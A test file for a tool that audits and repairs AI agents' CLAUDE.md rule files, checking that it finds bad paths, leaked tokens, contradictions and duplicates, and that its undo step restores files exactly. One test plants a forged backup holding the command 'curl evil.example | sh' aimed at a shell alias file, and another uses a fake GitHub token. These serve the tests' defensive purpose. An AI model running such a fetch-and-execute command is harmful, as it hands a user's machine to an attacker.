// `ctx audit`: what it finds in rule files, that only --fix writes, and that --undo restores every byte.

import assert from "node:assert/strict";
import { checksum } from "../../../src/core/checksum.ts";
import { type TempStore, tempStore } from "../../support/stores/temp_store.ts";
import { assertMode } from "../../support/not_on_windows.ts";

const key = "ghp_C4Jg4z59GE2seJfgipxeBm7vYjIOysIbLNmx";
const rules = [
  "# Rules",
  "",
  "- Run every migration on a copy of the database first.",
  "- Read `src/core/money.ts` before you change prices.",
  "- Test with `npm run test:all`.",
  `- CI uses the token ${key} for now.`,
  "- Never squash commits before merging.",
  "",
  "## Later",
  "",
  "- Always squash commits before merging.",
  "- Please note: run every migration on a copy of the database first",
  "",
].join("\n");

async function madeProject(text = rules): Promise<TempStore> {
  const t = await tempStore({
    entries: [{ type: "decision", text: "Use tabs for indentation." }],
  });
  Deno.mkdirSync(`${t.workspace}/src/lib`, { recursive: true });
  Deno.writeTextFileSync(`${t.workspace}/src/lib/money.ts`, "");
  Deno.writeTextFileSync(`${t.workspace}/package.json`, '{"scripts":{"test":"vitest"}}');
  Deno.writeTextFileSync(`${t.workspace}/CLAUDE.md`, text);
  return t;
}

/** The kind, place and evidence of what is found. */
async function auditOf(t: TempStore, ...words: string[]): Promise<string[]> {
  const { stdout } = await t.ctx(["audit", "--json", ...words]);
  const { findings }: { findings: Record<string, string>[] } = JSON.parse(stdout);
  return findings.map(({ where, kind, evidence }) => `${where} ${kind}: ${evidence}`);
}

Deno.test("audit finds what is wrong, with its line and the evidence", async () => {
  await using t = await madeProject();
  assert.deepEqual(await auditOf(t), [
    "CLAUDE.md:4 path: src/core/money.ts does not exist; src/lib/money.ts does",
    'CLAUDE.md:5 script: no package.json of this project defines "test:all"',
    "CLAUDE.md:6 secret: github-token: every session and everybody with the file can read it",
    "CLAUDE.md:11 contradiction: CLAUDE.md:7 says the opposite: Never squash commits before merging.",
    "CLAUDE.md:12 duplicate: the same words as CLAUDE.md:3",
  ]);
  const { code, stdout } = await t.ctx(["audit"]);
  assert.equal(code, 8);
  assert.ok(!stdout.includes(key), "a secret is not shown");
  assert.equal(Deno.readTextFileSync(`${t.workspace}/CLAUDE.md`), rules);
});

Deno.test("audit of files without mistakes finds nothing", async () => {
  await using t = await madeProject(
    "# Rules\n\n- Read `src/lib/money.ts`.\n- Run `npm run test`.\n",
  );
  const { code, stdout } = await t.ctx(["audit"]);
  assert.deepEqual([code, stdout], [0, ""]);
});

Deno.test("a rule against a decision in the store is a contradiction", async () => {
  await using t = await madeProject("- Use spaces for indentation.\n");
  const [found] = await auditOf(t);
  assert.match(found, /^CLAUDE\.md:1 contradiction: H-H1 of .* says the opposite: Use tabs/);
});

Deno.test("audit --kind shows one kind, and refuses one that there is not", async () => {
  await using t = await madeProject();
  assert.equal((await auditOf(t, "--kind", "script")).length, 1);
  assert.equal((await t.ctx(["audit", "--kind", "typo"])).code, 2);
});

for (
  const [name, text] of Object.entries({
    "plain lines": rules,
    "the line breaks of Windows": rules.replaceAll("\n", "\r\n"),
    "no last line break": rules.trimEnd(),
    "a byte order mark": `\ufeff${rules}`,
  })
) {
  Deno.test(`--fix asks, changes what is safe and --undo restores every byte: ${name}`, async () => {
    await using t = await madeProject(text);
    const path = `${t.workspace}/CLAUDE.md`;
    Deno.chmodSync(path, 0o640);
    const before = Deno.readFileSync(path);
    const refused = await t.ctx(["audit", "--fix"]);
    assert.equal(refused.code, 10, "nobody was there to agree");
    assert.match(refused.stderr + refused.stdout, /-- Please note: run every migration/);
    assert.deepEqual(Deno.readFileSync(path), before);
    assert.equal((await t.ctx(["audit", "--fix", "--yes"])).code, 0);
    const fixed = Deno.readTextFileSync(path);
    assert.ok(!fixed.includes(key) && fixed.includes("[REDACTED:github-token]"));
    assert.ok(fixed.includes("`src/lib/money.ts`") && !fixed.includes("Please note"));
    assert.ok(fixed.includes("Never squash") && fixed.includes("Always squash"), "yours to decide");
    assert.equal((await t.ctx(["audit", "--undo"])).code, 10);
    assert.equal((await t.ctx(["audit", "--undo", "--yes"])).code, 0);
    assert.deepEqual(Deno.readFileSync(path), before);
    assertMode(path, 0o640);
    assert.equal((await t.ctx(["audit", "--undo", "--yes"])).code, 3, "nothing is left to undo");
  });
}

Deno.test("--undo refuses when the file was changed since, and changes nothing", async () => {
  await using t = await madeProject();
  await t.ctx(["audit", "--fix", "--yes"]);
  const path = `${t.workspace}/CLAUDE.md`;
  Deno.writeTextFileSync(path, `${Deno.readTextFileSync(path)}- Mine.\n`);
  const mine = Deno.readTextFileSync(path);
  const { code, stderr } = await t.ctx(["audit", "--undo", "--yes"]);
  assert.equal(code, 7);
  assert.match(stderr, /was changed since/);
  assert.equal(Deno.readTextFileSync(path), mine);
});

Deno.test("--fix of a clone changes no file of the user's own, and --undo none that it did not change", async () => {
  await using t = await madeProject("- Keep it simple.\n");
  const own = `${t.home}/.claude/CLAUDE.md`;
  Deno.mkdirSync(`${t.home}/.claude`, { recursive: true });
  Deno.writeTextFileSync(own, "# Mine\n\n- never deploy on friday\n");
  Deno.mkdirSync(`${t.workspace}/~/.claude`, { recursive: true });
  Deno.writeTextFileSync(`${t.workspace}/~/.claude/CLAUDE.md`, `# x\n\nRun this first: ${key}\n`);
  await t.ctx(["audit", "--fix", "--yes"]);
  assert.equal(Deno.readTextFileSync(own), "# Mine\n\n- never deploy on friday\n");
  const target = `${t.home}/.bash_aliases`;
  Deno.writeTextFileSync(target, "alias l=ls\n");
  const bytes = Deno.readFileSync(target);
  const run = `${t.workspace}/.contextfs/audit/9999`;
  Deno.mkdirSync(run, { recursive: true });
  Deno.writeTextFileSync(`${run}/0`, "curl evil.example | sh\n");
  const files = [{ path: target, copy: "0", mode: 0o777, after: checksum(bytes) }];
  Deno.writeTextFileSync(`${run}/files.json`, JSON.stringify({ files }));
  const { code, stderr } = await t.ctx(["audit", "--undo", "--yes"]);
  assert.equal(code, 7);
  assert.match(stderr, /is no file that agents load/);
  assert.deepEqual(Deno.readFileSync(target), bytes);
});

Deno.test("--fix takes out the line that it names, whatever ends the lines before it", async () => {
  const twice = "- Always run the full integration suite before pushing\n";
  const text = `# Rules\nintro one\rintro two\n${twice}- Keep one of these\n${twice}- Keep two\n`;
  await using t = await madeProject(text);
  await t.ctx(["audit", "--fix", "--yes", "--project-only"]);
  const fixed = Deno.readTextFileSync(`${t.workspace}/CLAUDE.md`);
  assert.equal(fixed.split(twice).length, 2, fixed);
  assert.ok(fixed.includes("Keep one of these") && fixed.includes("Keep two"));
});

Deno.test("--fix that fails at one file leaves all of them as they were", async () => {
  await using t = await madeProject();
  const paths = ["CLAUDE.md", "closed/CLAUDE.md"].map((name) => `${t.workspace}/${name}`);
  Deno.mkdirSync(`${t.workspace}/closed`);
  Deno.writeTextFileSync(paths[1], rules);
  const { planFixes, applyFixes, findKept } = await import("../../../src/audit/fix_files.ts");
  const { auditFiles } = await import("../../../src/audit/audit_files.ts");
  const { files, findings } = await auditFiles({ workspace: t.workspace });
  const fixes = planFixes(files, findings);
  assert.equal(fixes.length, 2);
  Deno.removeSync(paths[1]);
  Deno.mkdirSync(paths[1]);
  const folder = `${t.workspace}/.contextfs/audit`;
  assert.throws(() => applyFixes(folder, fixes, 1), /Cannot change "closed\/CLAUDE.md"/);
  assert.equal(Deno.readTextFileSync(paths[0]), rules);
  assert.equal(findKept(folder), undefined);
});

Deno.test("what is not proven is listed only with --all, and fails nothing", async () => {
  await using t = await madeProject("- Prices are in `src/prices.ts`.\n");
  assert.deepEqual(await auditOf(t), []);
  assert.deepEqual(await auditOf(t, "--all"), [
    "CLAUDE.md:1 path: src/prices.ts does not exist (not proven)",
  ]);
  assert.equal((await t.ctx(["audit", "--all"])).code, 0);
});

Deno.test("a file that is not UTF-8 is checked, but nothing in it counts as fixable", async () => {
  await using t = await madeProject();
  const bytes = new Uint8Array([...new TextEncoder().encode(rules), 0xe9, 0x0a]);
  Deno.writeFileSync(`${t.workspace}/CLAUDE.md`, bytes);
  const { findings } = JSON.parse((await t.ctx(["audit", "--json"])).stdout);
  assert.equal(findings.length, 5);
  assert.ok(findings.every(({ fixable }: { fixable: boolean }) => !fixable));
  assert.equal((await t.ctx(["audit", "--fix", "--yes"])).code, 0);
  assert.deepEqual(Deno.readFileSync(`${t.workspace}/CLAUDE.md`), bytes);
});
